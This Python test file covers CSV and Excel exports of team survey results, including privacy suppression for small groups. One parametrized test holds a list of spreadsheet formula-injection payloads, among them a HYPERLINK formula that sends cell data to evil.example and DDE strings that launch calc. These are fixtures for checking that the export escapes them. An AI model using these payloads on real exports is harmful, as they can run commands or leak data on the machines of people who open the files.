"""Exports: aggregated figures per team and round as CSV and Excel, hidden cells saying so."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from rounds.rules.results import RoundResults
from rounds.services.export_files import (
    NOT_ENOUGH,
    ROUND_TOTAL,
    export_csv,
    export_xlsx,
    result_rows,
    team_rows,
)
from tests.bot.cards.test_summary import (
    FRAMEWORK,
    FRONTLINE,
    LEADERS,
    SPRING_LEVELS,
    Person,
    flat,
    make_results,
)

pytestmark = pytest.mark.unit

LEVEL_COLUMNS = [f"{level.value} {level.name}" for level in FRAMEWORK.levels]


def sample() -> RoundResults:
    spring = make_results(
        {"Ward 7": (20, [(None, SPRING_LEVELS)] * 8), "Ward 8": (9, [(None, flat(2))] * 6)},
        name="Spring 2026",
    )
    ward7: list[Person] = [("leaders", LEADERS)] * 7 + [("frontline", FRONTLINE)] * 7
    ward8: list[Person] = [("frontline", flat(2))] * 3
    ward9: list[Person] = [("support", flat(4))] * 6
    return make_results(
        {"Ward 7": (20, ward7), "Ward 8": (9, ward8), "Ward 9": (6, ward9)},
        role_question=True,
        previous=spring,
        comments={"Ward 7": ["a comment that must never be exported"]},
        min_comment_group=10,
    )


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def test_csv_has_a_row_per_team_group_and_item(tmp_path: Path) -> None:
    results = sample()
    export_csv(results, tmp_path / "r.csv")
    rows = read_csv(tmp_path / "r.csv")
    groups = {(r["team"], r["group"]) for r in rows}
    assert groups == {
        (ROUND_TOTAL, "Whole round"),
        *((t, g) for t in ("Ward 7", "Ward 8", "Ward 9") for g in (
            "Whole team", "Leaders", "Frontline staff", "Support and corporate staff"
        )),
    }  # fmt: skip
    per_group = len(FRAMEWORK.components) + FRAMEWORK.question_count
    assert len(rows) == len(groups) * per_group
    assert list(rows[0]) == [
        "round", "team", "group", "responses", "invited", "response rate", "item", "number",
        "title", "answers", *LEVEL_COLUMNS, "median", "median level",
        "share at most common level", "IQR", "change since previous round", "perception gap",
    ]  # fmt: skip


def test_shown_figures_match_the_results(tmp_path: Path) -> None:
    results = sample()
    export_csv(results, tmp_path / "r.csv")
    rows = read_csv(tmp_path / "r.csv")
    ward7 = results.team(1)
    row = next(
        r
        for r in rows
        if (r["team"], r["group"], r["item"], r["number"])
        == ("Ward 7", "Whole team", "question", "1")
    )
    q1 = ward7.figures.question(1)
    histogram = q1.histogram()
    assert histogram is not None
    assert [int(row[c]) for c in LEVEL_COLUMNS] == list(histogram.counts)
    assert float(row["median"]) == q1.median()
    assert float(row["share at most common level"]) == pytest.approx(q1.modal_share(), abs=0.01)
    assert float(row["IQR"]) == q1.iqr()
    assert (row["responses"], row["invited"], row["response rate"]) == ("14", "20", "0.7")
    component = next(
        r
        for r in rows
        if (r["team"], r["group"], r["item"], r["number"])
        == ("Ward 7", "Whole team", "component", "1")
    )
    assert component["median level"] == "Progressing"
    assert float(component["change since previous round"]) == 1
    assert float(component["perception gap"]) == 2
    # Role groups: counts and figures, no roster of their own.
    leaders = next(
        r
        for r in rows
        if (r["team"], r["group"], r["item"], r["number"])
        == ("Ward 7", "Leaders", "component", "1")
    )
    assert (leaders["responses"], leaders["invited"], float(leaders["median"])) == ("7", "", 4)


def test_hidden_groups_say_not_enough_responses_and_keep_their_counts(tmp_path: Path) -> None:
    results = sample()
    export_csv(results, tmp_path / "r.csv")
    rows = read_csv(tmp_path / "r.csv")
    figures = [*LEVEL_COLUMNS, "answers", "median", "median level"]
    figures += ["share at most common level", "IQR"]
    ward8 = [r for r in rows if r["team"] == "Ward 8"]
    assert ward8
    for row in ward8:
        assert {row[c] for c in figures} == {NOT_ENOUGH}
        if row["group"] == "Whole team":
            assert (row["responses"], row["invited"]) == ("3", "9")
            if row["item"] == "component":
                # Ward 8 had 6 in spring but 3 now: no change can be shown.
                assert row["change since previous round"] == NOT_ENOUGH
    # Ward 9 (6, all support staff) is shown; its support group is the whole team, also shown.
    support = [
        r for r in rows if (r["team"], r["group"]) == ("Ward 9", "Support and corporate staff")
    ]
    assert all(float(r["median"]) == 4 for r in support)
    # The round total minus wards 7 and 9 would be ward 8: it is hidden.
    whole = [r for r in rows if r["team"] == ROUND_TOTAL]
    assert all(r["median"] == NOT_ENOUGH for r in whole)
    assert whole[0]["responses"] == "23"


def test_xlsx_has_the_same_rows_a_team_sheet_and_notes(tmp_path: Path) -> None:
    results = sample()
    export_xlsx(results, tmp_path / "r.xlsx")
    workbook = load_workbook(tmp_path / "r.xlsx")
    assert workbook.sheetnames == ["Teams", "Results", "About"]
    sheet = list(workbook["Results"].iter_rows(values_only=True))
    header, body = sheet[0], sheet[1:]
    expected = list(result_rows(results, FRAMEWORK))
    assert len(body) == len(expected)
    for got, want in zip(body, expected, strict=True):
        assert dict(zip(header, got, strict=True)) == {
            k: (v if v != "" else None) for k, v in want.items()
        }
    teams = list(workbook["Teams"].iter_rows(values_only=True))
    by_team = {row[1]: dict(zip(teams[0], row, strict=True)) for row in teams[1:]}
    assert by_team["Ward 8"]["results"] == NOT_ENOUGH
    assert by_team["Ward 8"]["1. Building a shared purpose and vision (median)"] == NOT_ENOUGH
    assert by_team["Ward 7"]["1. Building a shared purpose and vision (median)"] == 3
    assert by_team["Ward 7"]["response rate"] == 0.7
    notes = " ".join(str(r[0]) for r in workbook["About"].iter_rows(values_only=True))
    assert "at least 5 responses" in notes
    assert next(iter(team_rows(results, FRAMEWORK)))["team"] == ROUND_TOTAL


def test_exports_hold_no_comment_and_no_name(tmp_path: Path) -> None:
    results = sample()
    comments = results.team(1).comments()  # 14 responses: the bot may show them, exports never
    assert comments is not None
    assert comments[0].text == "a comment that must never be exported"
    export_csv(results, tmp_path / "r.csv")
    export_xlsx(results, tmp_path / "r.xlsx")
    raw = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "comment that must never" not in raw
    workbook = load_workbook(tmp_path / "r.xlsx")
    cells = [str(v) for ws in workbook for row in ws.iter_rows(values_only=True) for v in row]
    assert not any("comment that must never" in c for c in cells)


HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Ward 7")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("start", sorted(HOSTILE))
def test_names_people_chose_are_never_formulas(tmp_path: Path, start: str) -> None:
    name = HOSTILE[start]
    ward: list[Person] = [(None, flat(3))] * 6
    results = make_results({name: (8, ward), "Ward 8": (9, ward)}, name=name)
    export_csv(results, tmp_path / "r.csv")
    rows = read_csv(tmp_path / "r.csv")
    assert {r["team"] for r in rows} == {f"'{name}", ROUND_TOTAL, "Ward 8"}
    assert {r["round"] for r in rows} == {f"'{name}"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)], "numbers stay numbers"

    export_xlsx(results, tmp_path / "r.xlsx")
    workbook = load_workbook(tmp_path / "r.xlsx")
    seen = 0
    as_read = name.replace("\r", "\n")  # XML reads a carriage return as a line feed
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and as_read in cell.value:
                    assert cell.value.startswith("'"), cell.value
                    assert cell.data_type == "s", "a string cell, not a formula"
                    seen += 1
                assert cell.data_type != "f"
    assert seen > 0, "the name is in the workbook"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_same_results_give_the_same_bytes(tmp_path: Path) -> None:
    results = sample()
    export_xlsx(results, tmp_path / "a.xlsx")
    export_csv(results, tmp_path / "a.csv")
    time.sleep(2.1)  # zip entries are dated to the second: a second later, the same file
    export_xlsx(results, tmp_path / "b.xlsx")
    export_csv(results, tmp_path / "b.csv")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
